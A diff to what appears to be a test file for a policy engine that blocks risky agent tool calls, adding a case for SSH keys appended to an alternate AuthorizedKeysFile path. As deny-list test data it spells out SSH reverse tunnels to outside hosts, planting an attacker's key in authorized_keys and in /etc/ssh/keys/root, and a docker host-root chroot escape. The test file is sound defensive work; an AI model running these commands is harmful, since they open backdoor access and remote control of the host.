@@ -202,9 +202,11 @@ describe('exfiltration and remote access', () => {
     each('ssh-reverse-tunnel-exposed', 'deny', ['ssh -R 4444:localhost:22 user@203.0.113.7', 'ssh -R 0.0.0.0:8080:localhost:8080 u@vps.example.net']);
     each('ssh-reverse-tunnel-background', 'deny', ['ssh -f -N -R 9000:localhost:9000 tunnel@vps.example.net']);
     each('authorized-key-appended', 'deny', ["echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHv attacker@kali' >> ~/.ssh/authorized_keys"]);
-    const append: ToolCall = { type: 'FileAppend', path: '/home/dev/.ssh/authorized_keys', content: 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 x@y' } as ToolCall;
+    // A key appended to a file sshd may read instead (AuthorizedKeysFile); ~/.ssh/authorized_keys itself is denied by its path first.
+    const append: ToolCall = { type: 'FileAppend', path: '/etc/ssh/keys/root', content: 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 x@y' } as ToolCall;
     fires(append, 'authorized-key-append-content');
     denied(append);
+    denied({ type: 'FileAppend', path: '/home/dev/.ssh/authorized_keys', content: 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 x@y' } as ToolCall);
     each('container-host-root-chroot', 'deny', ['docker run --rm -it -v /:/host alpine chroot /host sh']);
     quiet('ssh-reverse-tunnel-exposed', ['ssh -L 5432:localhost:5432 dev@bastion.corp.internal', 'ssh -N -L 8080:localhost:80 devbox']);
     quiet('container-host-root-chroot', ['docker run --rm -v $(pwd):/app -w /app node:20 npm test']);
